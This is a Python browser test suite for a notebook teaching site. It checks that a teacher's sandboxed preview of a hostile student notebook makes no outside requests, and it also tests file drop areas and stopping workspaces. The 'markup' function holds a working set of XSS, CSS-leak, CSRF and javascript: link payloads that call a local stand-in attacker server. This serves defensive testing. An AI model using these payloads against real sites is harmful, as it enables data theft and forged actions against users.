"""A teacher and two students on the real site: a hostile notebook is looked at, files are dropped and handed out."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import BrowserContext, FilePayload, Page, expect

from tests.browser.notebook import Notebook
from tests.browser.people import Person, class_of
from tests.browser.site import ctl, ctl_json, eventually, home, inside, launch_url, phase, workspace_dir
from tests.browser.test_pages import inspect

PHONE = {"width": 360, "height": 780}
ODD_NAMES = ("sujet d'été n°1.txt", "100% sûr #1?.csv", 'a "b" & <c>.md', "日本.txt", ".caché", "a+b=c;d.txt")


@dataclass
class Evil:
    """Another site, which remembers what it was asked for."""

    url: str
    asked: list[str]


@pytest.fixture
def evil() -> Iterator[Evil]:
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"evil")

        do_POST = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:
            """Quiet."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield Evil(f"http://evil.localhost:{server.server_address[1]}", asked)
        server.shutdown()
        thread.join()


@dataclass(frozen=True)
class Room:
    """A course, its teacher, a student who has come, and one who has not yet."""

    course: str
    teacher: Person
    alice: Person
    bob: Person

    def page(self, *parts: str) -> str:
        return "/".join((f"{home()}teach/{self.course}", *parts))


@pytest.fixture(scope="module")
def room(quiet_course: str) -> Iterator[Room]:
    with class_of(quiet_course) as people:
        yield Room(quiet_course, *people)


@pytest.fixture
def opened(room: Room, visitor: Callable[..., BrowserContext]) -> str:
    """Alice has worked; her workspace's directory."""
    page = visitor().new_page()
    page.goto(launch_url(room.course, "week1/1-hello", room.alice.name))
    expect(Notebook(page, page).panel.locator(".jp-Cell").first).to_be_visible()
    page.close()
    return workspace_dir(room.course, room.alice.name)


def markup(site: str, evil: str) -> str:
    """HTML that tries what it can."""
    return f"""
<script>document.title = "owned"; fetch("{evil}/script")</script>
<img src=x onerror="fetch('{evil}/onerror')"><img src="{evil}/picture.png">
<svg onload="fetch('{evil}/svg')"><image href="{evil}/svg.png"></image></svg>
<iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object><embed src="{evil}/embed">
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/style.css"><link rel="prefetch" href="{evil}/prefetch">
<style>@import url("{evil}/import.css"); body {{ background: url("{evil}/background.png"); }}
@font-face {{ font-family: x; src: url("{evil}/font.woff"); }} main {{ font-family: x; }}
input[value^="a"] {{ background: url("{evil}/leak?a"); }}</style>
<base href="{evil}/"><video src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay></audio>
<form id="evil" action="{site}do/student.stop" method="post"><input name="csrf" value="a"><button>Log in again</button></form>
<form action="{evil}/form"><button id="form">Send</button></form>
<a id="away" href="{evil}/away" target="_top">Next notebook</a><a id="popup" href="{evil}/popup" target="_blank">Help</a>
<a id="code" href="javascript:fetch('{evil}/link')">Code</a>
"""


def hostile(site: str, evil: str) -> str:
    """A notebook that is full of it."""
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": markup(site, evil), "application/javascript": f"fetch('{evil}/output')"},
    }
    huge = {"output_type": "stream", "name": "stdout", "text": "a long line of output\n" * 200_000}
    notebook = {
        "nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
        "cells": [
            {"cell_type": "markdown", "id": "a", "metadata": {}, "source": f"# The end\n\n{markup(site, evil)}"},
            {"cell_type": "code", "id": "b", "metadata": {}, "source": "1", "execution_count": 1, "outputs": [output]},
            {"cell_type": "code", "id": "c", "metadata": {}, "source": "2", "execution_count": 2, "outputs": [huge]},
        ],
    }  # fmt: skip
    return json.dumps(notebook)


def plant(space: str, name: str, text: str) -> None:
    """A file of the student's."""
    script = 'cat >"$1/$2"; chown --reference="$1" "$1/$2"'
    inside("bash", "-euc", script, "plant", space, name, input=text)


def fingerprint(space: str) -> str:
    """Of everything in a directory."""
    return inside("bash", "-c", f"cd '{space}' && find . -type f -exec sha256sum {{}} + | sort")


def test_a_hostile_notebook_is_looked_at_and_nothing_happens(
    room: Room, opened: str, evil: Evil, visitor: Callable[..., BrowserContext], shot: Callable[[Page, str], None]
) -> None:  # fmt: skip
    plant(opened, "evil.ipynb", hostile(home(), evil.url))
    ctl("stop", f"{room.course}/{room.alice.name}")
    before = fingerprint(opened)
    context = visitor(locale="en-GB")
    page = context.new_page()
    room.teacher.log_in(page, f"/teach/{room.course}/students/{room.alice.name}")
    requested: list[str] = []
    page.on("requestfinished", lambda request: requested.append(request.url))
    inspect(page)
    shot(page, "student")
    page.locator("tr", has_text="evil.ipynb").get_by_role("button", name="Look").click()
    expect(page.locator("iframe.look")).to_be_visible()
    frame = page.frame_locator("iframe.look")
    expect(frame.get_by_role("heading", name="The end")).to_be_visible()
    assert page.url.startswith(room.page("students", room.alice.name, "looks"))
    inner = next(one for one in page.frames if ".nbhostd/look" in one.url)
    assert inner.evaluate("self.origin") == "null"
    assert inner.evaluate("(() => { try { return document.cookie } catch (error) { return error.name } })()") == (
        "SecurityError"
    )  # fmt: skip
    assert "owned" not in page.title()
    # Whatever a teacher may press by mistake.
    for name in ("Next notebook", "Help", "Code", "Send", "Log in again"):
        with_name = frame.get_by_role("link", name=name).or_(frame.get_by_role("button", name=name))
        if with_name.count():
            with_name.first.click(no_wait_after=True)
    expect(frame.get_by_role("heading", name="The end")).to_be_visible()
    assert len(context.pages) == 1
    assert evil.asked == []
    assert [url for url in requested if "evil" in url.split("/")[2]] == []
    assert fingerprint(opened) == before
    assert phase(room.course, room.alice.name) == "asleep"
    inspect(page)
    shot(page, "look")
    bare = context.new_page()
    bare.set_content(markup(home(), evil.url), wait_until="commit")
    eventually(
        lambda: "/onerror" in evil.asked and "/picture.png" in evil.asked, "without the sandbox, it does"
    )
    bare.close()
    page.set_viewport_size(PHONE)  # type: ignore[arg-type]
    inspect(page)
    shot(page, "look-phone")


def test_the_look_alone_is_nobodys_origin_and_others_do_not_find_it(
    room: Room, opened: str, visitor: Callable[..., BrowserContext]
) -> None:
    plant(opened, "mine.ipynb", hostile(home(), "http://nowhere.localhost:1"))
    page = visitor(locale="en-GB").new_page()
    room.teacher.log_in(page, f"/teach/{room.course}/students/{room.alice.name}")
    page.locator("tr", has_text="mine.ipynb").get_by_role("button", name="Look").click()
    source = page.locator("iframe.look").get_attribute("src")
    assert source is not None
    assert re.match(r"http://[a-z2-7]{26}\.", source)
    where = page.url
    stranger = visitor(locale="en-GB").new_page()
    answer = stranger.goto(source)
    assert answer is not None
    assert answer.status == 200, "an address is a capability, like a workspace's"
    assert stranger.evaluate("self.origin") == "null"
    assert "cookie" not in answer.request.headers
    room.bob.log_in(stranger)
    refused = stranger.goto(where)
    assert refused is not None
    assert refused.status == 403


def drop(page: Page, *names: str) -> None:
    """Files dragged from the desktop."""
    files = page.evaluate_handle(
        """names => {
            const dropped = new DataTransfer();
            names.forEach((name) => dropped.items.add(new File([`content of ${name}`], name)));
            return dropped;
        }""",
        list(names),
    )
    zone = page.locator(".drop")
    zone.dispatch_event("dragover", {"dataTransfer": files})
    zone.dispatch_event("drop", {"dataTransfer": files})


@pytest.mark.parametrize("language", ["en-GB", "fr-FR"])
def test_files_are_dropped_handed_out_and_the_students_have_them(
    language: str, room: Room, opened: str, visitor: Callable[..., BrowserContext], shot: Callable[[Page, str], None]
) -> None:  # fmt: skip
    area = f"exam-{language[:2]}"
    page = visitor(locale=language).new_page()
    room.teacher.log_in(page, f"/teach/{room.course}/dropareas")
    page.locator("#area").fill(area)
    page.locator("#new button").click()
    page.get_by_role("link", name=area).click()
    inspect(page)
    drop(page, *ODD_NAMES)
    expect(page.locator(".drop-list li")).to_have_count(len(ODD_NAMES))
    shot(page, f"dropped-{language}")
    page.locator("#put button.primary").click()
    expect(page.locator("#files tbody tr")).to_have_count(len(ODD_NAMES))
    expect(page.locator("#files tbody tr").first).to_contain_text(re.compile("0 (of|sur) 2"))
    inspect(page)
    shot(page, f"area-{language}")
    page.locator(".heading form[action='/do/droparea.deploy'] button").click()
    page.wait_for_url("**/jobs/*")
    expect(page.locator("[data-state]")).to_have_text(re.compile("succeeded|réussi"))
    page.goto(room.page("dropareas", area))
    expect(page.locator("#files tbody tr").first).to_contain_text(re.compile("2 (of|sur) 2"))
    for student in (room.alice, room.bob):
        space = workspace_dir(room.course, student.name)
        for name in ODD_NAMES:
            path = f"{space}/DROPPED/{area}/{name}"
            assert inside("cat", path) == f"content of {name}"
            assert inside("stat", "-c", "%u", path) == inside("stat", "-c", "%u", space)
    page.set_viewport_size(PHONE)  # type: ignore[arg-type]
    inspect(page)
    shot(page, f"area-{language}-phone")


def test_without_a_script_files_go_in_a_form(room: Room, visitor: Callable[..., BrowserContext]) -> None:
    page = visitor(locale="en-GB", java_script_enabled=False).new_page()
    room.teacher.log_in(page, f"/teach/{room.course}/dropareas")
    page.locator("#area").fill("plain")
    page.locator("#new button").click()
    page.get_by_role("link", name="plain").click()
    page.locator("input[type=file]").set_input_files(
        [FilePayload(name=name, mimeType="text/plain", buffer=name.encode()) for name in ODD_NAMES]
    )
    page.locator("#put button.primary").click()
    expect(page.get_by_text(f"{len(ODD_NAMES)} files are in the drop area now.")).to_be_visible()
    names = {row["path"] for row in ctl_json("droparea", "list", room.course, "plain")}
    assert names == set(ODD_NAMES)


def test_the_list_tells_who_is_there_and_a_workspace_is_stopped(
    room: Room, opened: str, visitor: Callable[..., BrowserContext], shot: Callable[[Page, str], None]
) -> None:  # fmt: skip
    page = visitor(locale="en-GB").new_page()
    room.teacher.log_in(page, f"/teach/{room.course}/students")
    eventually(lambda: phase(room.course, room.alice.name) == "ready", "Alice's workspace runs")
    page.reload()
    row = page.locator("#students tbody tr", has_text=room.alice.name)
    expect(row).to_contain_text("running")
    page.get_by_role("button", name="Measure").click()
    page.wait_for_url("**/jobs/*")
    expect(page.locator("[data-state]")).to_have_text("succeeded")
    page.goto(room.page("students"))
    expect(row).to_contain_text(re.compile(r"\d.(KB|MB)"))
    page.get_by_role("searchbox").fill(room.alice.name)
    expect(page.locator("#students tbody tr:visible")).to_have_count(1)
    inspect(page)
    shot(page, "students")
    row.get_by_text("Stop").first.click()
    page.get_by_role("dialog").get_by_role("button", name="Stop the workspace").click()
    expect(page.get_by_role("status").first).to_contain_text("The workspace is stopped")
    assert phase(room.course, room.alice.name) == "asleep"
